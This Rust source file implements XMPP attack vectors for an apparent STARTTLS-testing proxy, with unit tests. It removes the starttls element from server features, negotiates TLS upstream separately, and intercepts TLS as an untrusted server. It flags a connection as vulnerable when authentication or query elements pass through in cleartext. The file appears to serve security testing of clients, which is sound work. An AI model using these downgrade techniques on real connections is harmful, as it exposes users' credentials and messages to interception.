// SPDX-License-Identifier: Apache-2.0

//! XMPP attack vectors (spec.md section 4.3, "XMPP"). XML-framed, not
//! line-oriented: rewrites locate and excise the `<starttls>` element by
//! substring search rather than parsing the stream as XML (spec.md
//! section 9, "Pattern-matched parsing").

use std::sync::Arc;

use async_trait::async_trait;

use super::{contains_ci, lower_lossy, starts_with_ci, ArcVector, AttackVector, MangleCtx};
use crate::detect::Protocol;
use crate::error::{ProxyError, ProxyResult};

pub enum XmppVector {
    StripFromCapabilities,
    StripInboundTLS,
    UntrustedIntercept,
}

const SENTINELS: &[&str] = &["</auth>", "<query", "<iq", "<username"];

fn mark_if_sentinel(ctx: &MangleCtx<'_>, data: &[u8]) {
    if SENTINELS.iter().any(|s| contains_ci(data, s)) {
        ctx.mark_vulnerable();
    }
}

/// Finds the first `<starttls ...>...</starttls>` or self-closing
/// `<starttls .../>` element and removes it whole, returning the spliced
/// stream plus the removed element (so callers can inspect e.g.
/// `<required/>`).
fn excise_starttls(data: &[u8]) -> (Vec<u8>, Option<Vec<u8>>) {
    let lower = lower_lossy(data);
    let Some(start) = lower.find("<starttls") else {
        return (data.to_vec(), None);
    };
    let close_tag = "</starttls>";
    let end = if let Some(rel) = lower[start..].find(close_tag) {
        start + rel + close_tag.len()
    } else if let Some(rel) = lower[start..].find("/>") {
        start + rel + 2
    } else {
        return (data.to_vec(), None);
    };
    let element = data[start..end].to_vec();
    let mut out = Vec::with_capacity(data.len() - (end - start));
    out.extend_from_slice(&data[..start]);
    out.extend_from_slice(&data[end..]);
    (out, Some(element))
}

#[async_trait]
impl AttackVector for XmppVector {
    fn protocol(&self) -> Protocol {
        Protocol::Xmpp
    }

    fn name(&self) -> &'static str {
        match self {
            XmppVector::StripFromCapabilities => "StripFromCapabilities",
            XmppVector::StripInboundTLS => "StripInboundTLS",
            XmppVector::UntrustedIntercept => "UntrustedIntercept",
        }
    }

    async fn mangle_client_data(
        &self,
        ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            XmppVector::StripFromCapabilities | XmppVector::StripInboundTLS => {
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
            XmppVector::UntrustedIntercept => {
                if starts_with_ci(data, "<starttls") {
                    ctx.send_to_client(b"<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
                        .await?;
                    ctx.upgrade_inbound_as_server().await?;
                    ctx.send_to_upstream(data).await?;
                    let resp = ctx.recv_from_upstream(4096).await?;
                    if !starts_with_ci(&resp, "<proceed ") {
                        return Err(ProxyError::ProtocolViolation(
                            "upstream rejected forwarded STARTTLS",
                        ));
                    }
                    ctx.upgrade_outbound_as_client().await?;
                    return Ok(None);
                }
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
        }
    }

    async fn mangle_server_data(
        &self,
        ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            XmppVector::StripFromCapabilities => {
                let (spliced, _) = excise_starttls(data);
                Ok(Some(spliced))
            }
            XmppVector::StripInboundTLS => {
                let (spliced, element) = excise_starttls(data);
                if let Some(element) = element {
                    if contains_ci(&element, "required") {
                        ctx.send_to_upstream(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
                            .await?;
                        let resp = ctx.recv_from_upstream(4096).await?;
                        if !starts_with_ci(&resp, "<proceed ") {
                            return Err(ProxyError::ProtocolViolation(
                                "upstream rejected independent STARTTLS",
                            ));
                        }
                        ctx.upgrade_outbound_as_client().await?;
                    }
                }
                Ok(Some(spliced))
            }
            XmppVector::UntrustedIntercept => Ok(Some(data.to_vec())),
        }
    }
}

pub fn all() -> Vec<ArcVector> {
    vec![
        Arc::new(XmppVector::StripFromCapabilities),
        Arc::new(XmppVector::StripInboundTLS),
        Arc::new(XmppVector::UntrustedIntercept),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn excises_starttls_element_with_required_child() {
        let data = b"<features><starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'><required/></starttls></features>";
        let (spliced, element) = excise_starttls(data);
        assert_eq!(spliced, b"<features></features>".to_vec());
        let element = element.unwrap();
        assert!(contains_ci(&element, "required"));
    }

    #[test]
    fn excises_self_closing_starttls() {
        let data = b"<features><starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/></features>";
        let (spliced, element) = excise_starttls(data);
        assert_eq!(spliced, b"<features></features>".to_vec());
        assert!(element.is_some());
    }

    #[test]
    fn no_starttls_element_leaves_stream_untouched() {
        let data = b"<features><mechanisms/></features>";
        let (spliced, element) = excise_starttls(data);
        assert_eq!(spliced, data.to_vec());
        assert!(element.is_none());
    }
}
